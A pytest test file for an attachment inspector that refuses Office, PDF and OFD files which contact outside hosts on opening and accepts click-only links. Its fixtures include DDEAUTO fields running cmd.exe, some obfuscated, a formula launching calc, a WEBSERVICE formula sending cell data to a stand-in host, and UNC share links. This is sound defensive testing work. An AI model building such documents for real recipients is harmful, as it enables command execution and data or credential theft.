"""Evidence that would tell another machine that it is being read is refused; what only a click asks for is not."""

from __future__ import annotations

import struct

import pytest

from measures.attachments.addresses import tells_somebody
from measures.attachments.inspecting import kind_of
from measures.attachments.refusing import Unacceptable
from tests.measures.evidence_samples import BOOK, RELATION, WORD, a_compound, a_pdf, a_record, a_stream, a_zip

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    relation = f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    rels = f"<Relationships>{relation}</Relationships>"
    return a_zip({"word/document.xml": "<document><body/></document>", "word/_rels/document.xml.rels": rels})


def written(body: str) -> bytes:
    return a_zip({"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"})


def field(*codes: str) -> bytes:
    runs = "".join(f"<w:instrText>{code}</w:instrText>" for code in codes)
    return written(f"{BEGIN}{runs}{SEPARATE}<w:t>x</w:t>{END}")


def calculated(formula: str) -> bytes:
    return a_zip(
        {
            "xl/workbook.xml": "<workbook><sheets/></workbook>",
            "xl/worksheets/sheet1.xml": f"<s><c><f>{formula}</f></c></s>",
        }
    )


def a_book(**members: str) -> bytes:
    return a_zip(
        {
            "xl/workbook.xml": "<workbook><sheets/></workbook>",
            **{f"xl/{name}.xml": content for name, content in members.items()},
        }
    )


def a_linked_book(path: str) -> bytes:
    body = struct.pack("<HHB", 1, len(path), 1) + path.encode("utf-16-le")
    return a_compound({"Workbook": BOOK + a_record(0x01AE, body) + a_record(0x0A)})


def an_opening_pdf(action: bytes, more: bytes = b"") -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
    second = b"2 0 obj\n" + action + b"\nendobj\n" + more
    head = b"%PDF-1.4\n"
    places = (len(head), len(head) + len(catalog))
    table = b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(head) + len(catalog) + len(second)
    )
    return head + catalog + second + table + end


LINK = b"3 0 obj << /S /URI /URI (https://a.example) >> endobj\n"
REFUSED = {
    "a picture elsewhere": linked("image", "https://a.example/x.png"),
    "a picture on a share": linked("image", r"file:///\\a.example\x.png"),
    "a workbook on a share": linked("externalLinkPath", r"\\a.example\x.xlsx"),
    "a link to a share": linked("hyperlink", "file://a.example/x"),
    "a link that runs": linked("hyperlink", "javascript:x"),
    "a film elsewhere": linked("video", "https://a.example/x.mp4"),
    "a page of its own": linked("aFChunk", "x.html", "Internal"),
    "dde": field(r" DDEAUTO c:\\windows\\system32\\cmd.exe "),
    "dde in pieces": field(" DD", "EA", "UTO ", "cmd "),
    "dde spelled by codes": field(" QUOTE 68 68 69 "),
    "dde in one element": written(r'<w:fldSimple w:instr=" DDE cmd x "/>'),
    "dde in utf-16": a_zip(
        {
            "word/document.xml": f'<w:document {W}><w:body><w:fldSimple w:instr=" DDE c x"/></w:body></w:document>'.encode(
                "utf-16"
            )
        }
    ),
    "a linked object": field(r" LINK Excel.Sheet.8 \\\\a.example\\x.xls "),
    "a fetched picture": field(' INCLUDEPICTURE "https://a.example/x.png" '),
    "a fetched text": field(r' INCLUDETEXT "\\\\a.example\\x.docx" '),
    "a drawing elsewhere": written('<imagedata src="https://a.example/x.png"/>'),
    "dde in a workbook": a_book(
        externalLink1='<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
    ),
    "dde in a formula": calculated("cmd|'/c calc'!A0"),
    "a service": calculated('_xlfn.WEBSERVICE("https://a.example/"&amp;A1)'),
    "a connection": a_book(connections="<connections/>"),
    "old dde": a_compound({"WordDocument": WORD["WordDocument"] + b"\x13 DDEAUTO cmd "}),
    "old dde in wide letters": a_compound(
        {"WordDocument": WORD["WordDocument"] + "\x13 DDE cmd ".encode("utf-16-le")}
    ),
    "old dde in a workbook": a_linked_book("cmd\x03/c calc"),
    "an old workbook on a share": a_linked_book("\x01\x01@a.example\x03x.xls"),
    "a form that is sent": a_pdf(b"2 0 obj << /S /SubmitForm /F (https://a.example) >> endobj\n"),
    "a file elsewhere": a_pdf(rb"2 0 obj << /S /GoToR /F (\\\\a.example\\x) >> endobj" + b"\n"),
    "a packed file elsewhere": a_pdf(a_stream(b"3 0 << /S /GoToR /F (x) >>", b"/Type /ObjStm")),
    "an address at an event": a_pdf(b"2 0 obj << /AA << /O 3 0 R >> >> endobj\n" + LINK),
    "an address on opening": an_opening_pdf(b"<< /S /URI /URI (https://a.example) >>"),
    "an address after a place": an_opening_pdf(b"<< /S /GoTo /Next << /S /URI /URI (x) >> >>"),
    "an ofd that asks on opening": a_zip(
        {
            "OFD.xml": "<OFD><DocBody/></OFD>",
            "Doc_0/Document.xml": '<o><Action Event="DO"><URI URI="https://a.example"/></Action></o>',
        }
    ),
}
TAKEN = {
    "a link to a page": linked("hyperlink", "https://a.example/x"),
    "a link to a place": linked("hyperlink", "#here"),
    "a workbook on the author's disk": linked("externalLinkPath", "file:///C:/a/x.xlsx"),
    "a picture of its own": linked("image", "media/image1.png", "Internal"),
    "a link field": field(' HYPERLINK "https://a.example/link/1" '),
    "page numbers": field(" PAGE "),
    "a picture from the author's disk": field(r' INCLUDEPICTURE "C:\\a\\x.png" '),
    "words about it": written("<w:t>DDEAUTO LINK WEBSERVICE(</w:t>"),
    "sums": calculated("SUM(A1:A3)&amp;IF(A1,\"a|b\",'Sheet 2'!B1)"),
    "an old workbook beside it": a_linked_book("\x01x.xls"),
    "an address to click": a_pdf(LINK),
    "a place on opening, an address to click": an_opening_pdf(b"<< /S /GoTo /D [1 0 R /Fit] >>", LINK),
    "an ofd with an address to click": a_zip(
        {
            "OFD.xml": "<OFD><DocBody/></OFD>",
            "Doc_0/Document.xml": '<o><Action Event="CLICK"><URI URI="https://a"/></Action></o>',
        }
    ),
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
def test_what_would_reach_out_is_refused(content: bytes) -> None:
    with pytest.raises(Unacceptable, match=r"自动连接外部|嵌入对象"):
        kind_of(content)


@pytest.mark.parametrize("content", TAKEN.values(), ids=TAKEN)
def test_what_only_a_click_asks_for_is_taken(content: bytes) -> None:
    assert kind_of(content)


def test_a_part_in_an_encoding_that_nobody_needs_is_not_passed_over() -> None:
    part = '<?xml version="1.0" encoding="gbk"?><w:d><w:fldSimple w:instr=" DDE cmd x"/></w:d>'
    with pytest.raises(Unacceptable, match="已损坏"):
        kind_of(a_zip({"word/document.xml": part}))


@pytest.mark.parametrize(
    ("address", "clicked", "opened"),
    [
        ("https://a.example", False, True),
        ("mailto:a@a.example", False, True),
        ("#here", False, False),
        ("x.docx", False, False),
        (r"C:\a\x.docx", False, False),
        ("file:///C:/a", False, False),
        ("file:///home/a", False, False),
        ("file://a.example/x", True, True),
        ("file:////a.example/x", True, True),
        (r"\\a.example\x", True, True),
        ("%5C%5Ca.example%5Cx", True, True),
        ("//a.example/x", True, True),
        ("search-ms:query=x", True, True),
        ("", False, False),
    ],
)
def test_an_address_is_told_by_what_it_asks(address: str, *, clicked: bool, opened: bool) -> None:
    assert (tells_somebody(address, is_clicked=True), tells_somebody(address, is_clicked=False)) == (
        clicked,
        opened,
    )
